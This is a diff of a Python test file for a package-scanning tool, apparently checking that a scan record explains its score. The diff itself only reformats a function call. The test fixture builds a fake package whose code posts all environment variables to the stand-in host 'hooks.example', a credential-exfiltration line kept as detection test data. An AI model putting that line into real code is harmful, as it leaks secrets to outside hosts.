@@ -53,7 +53,9 @@ def test_every_package_gets_one_record_and_a_broken_one_does_not_stop_the_rest(t
 def test_a_record_explains_its_score(tmp_path):
     payload = "import os\nimport requests\nrequests.post('https://hooks.example/x', data=dict(os.environ))\n"
     sdist = build_sdist("leaky", "1.0", modules={"leaky/__init__.py": payload, "tests/test_x.py": PAYLOAD})
-    [outcome] = scan_packages([_package(tmp_path, "leaky", sdist)], workers=1, timeout=60, top_names=["leaky"])
+    [outcome] = scan_packages(
+        [_package(tmp_path, "leaky", sdist)], workers=1, timeout=60, top_names=["leaky"]
+    )
     record = outcome.record
     parts = record["score_parts"]
     recomputed = sum(part["score"] * part["counts"] for part in parts)
